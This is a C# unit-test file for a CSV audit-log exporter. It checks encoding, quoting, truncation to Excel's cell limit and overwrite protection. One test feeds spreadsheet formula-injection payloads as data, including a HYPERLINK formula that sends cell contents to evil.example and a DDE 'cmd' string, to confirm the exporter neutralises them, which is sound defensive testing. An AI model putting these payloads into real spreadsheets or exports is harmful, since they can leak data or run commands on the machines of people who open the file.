using System;
using System.IO;
using System.Linq;
using System.Text;
using Xunit;
using RepricingPS.Core.Audit;

namespace RepricingPS.Core.Tests.Audit
{
    public sealed class ExportTests
    {
        private static AuditEntry Entry(string error = "Could not find file", string details = "") => new AuditEntry
        {
            Timestamp = new DateTimeOffset(2026, 11, 26, 14, 3, 5, 123, TimeSpan.FromHours(1)),
            User = "Zoë", Computer = "L01403-DATA", Script = "Import-RepricingFile", Status = "FILE_ERROR",
            Action = "Import File", File = @"C:\data\claims, march.xlsx", ErrorType = "FILE_NOT_FOUND", Error = error,
            Message = "USER ERROR - x | Error: \"quoted\"\r\nsecond line", Details = details, SessionId = "s1", EntryId = "e1",
            PSVersion = "7.6.9", OS = "Windows 11", Source = "/log/a.csv:2",
        };

        [Fact]
        public void Export_WritesBomCrlfHeaderAndExcelTimestamp()
        {
            using var t = new TempDir();
            string path = t.Combine("out.csv");
            Assert.Equal(1, AuditExport.Write(path, new[] { Entry() }, overwrite: false));
            byte[] bytes = File.ReadAllBytes(path);
            Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes.Take(3).ToArray());
            string text = Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3);
            Assert.StartsWith("Timestamp,UtcOffset,User,Computer,Script,Status,IsError,Action,File,ErrorType,Error,Message,Details,SessionId,EntryId,PSVersion,OS,IsLegacy,Source\r\n", text);
            // Worked by hand: the writer's local time and its offset ("UTC+01:00": a bare "+01:00" would need the formula guard), the comma-holding file quoted, quotes doubled, the
            // multi-line message quoted whole, non-ASCII kept.
            Assert.Contains("\r\n2026-11-26 14:03:05.123,UTC+01:00,Zoë,L01403-DATA,Import-RepricingFile,FILE_ERROR,True,Import File,\"C:\\data\\claims, march.xlsx\",FILE_NOT_FOUND,Could not find file,\"USER ERROR - x | Error: \"\"quoted\"\"\r\nsecond line\",,s1,e1,7.6.9,Windows 11,False,/log/a.csv:2\r\n", text);
        }

        [Theory]
        [InlineData("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")")]
        [InlineData("+cmd|' /C calc'!A0")]
        [InlineData("-2+3")]
        [InlineData("@SUM(1)")]
        [InlineData("\tTAB")]
        public void Export_GuardsFormulaPrefixes(string hostile)
        {
            using var t = new TempDir();
            string path = t.Combine("out.csv");
            AuditExport.Write(path, new[] { Entry(error: hostile) }, overwrite: false);
            string[] row = AuditExport.Row(Entry(error: hostile));
            Assert.Equal(hostile, row[10]);
            string text = File.ReadAllText(path);
            Assert.DoesNotContain("," + hostile, text);
            Assert.True(text.Contains(",'" + hostile) || text.Contains(",\"'" + hostile.Replace("\"", "\"\"")), text);
        }

        [Fact]
        public void Export_CutsValuesLongerThanAnExcelCell()
        {
            string details = new string('x', 40000);
            string[] row = AuditExport.Row(Entry(details: details));
            Assert.True(row[12].Length <= AuditExport.ExcelCellLimit);
            Assert.EndsWith("... [cut for Excel: 40,000 characters]", row[12]);
            Assert.StartsWith(new string('x', 32000), row[12]);
        }

        [Fact]
        public void Export_RefusesAnExistingFileWithoutOverwrite_AndAMissingFolder()
        {
            using var t = new TempDir();
            string path = t.Combine("out.csv");
            File.WriteAllText(path, "keep");
            var ex = Assert.Throws<RepricingException>(() => AuditExport.Write(path, new[] { Entry() }, overwrite: false));
            Assert.Equal("OutputExists", ex.ErrorId);
            Assert.Equal("keep", File.ReadAllText(path));
            AuditExport.Write(path, new[] { Entry() }, overwrite: true);
            Assert.StartsWith("\uFEFFTimestamp", File.ReadAllText(path, new UTF8Encoding(false)));

            var missing = Assert.Throws<RepricingException>(() => AuditExport.Write(t.Combine("no", "out.csv"), new[] { Entry() }, overwrite: false));
            Assert.Equal("ExportFolderNotFound", missing.ErrorId);
            Assert.Equal(ErrorCategories.File, missing.Category);
            Assert.Single(Directory.GetFiles(t.Path));
        }
    }
}
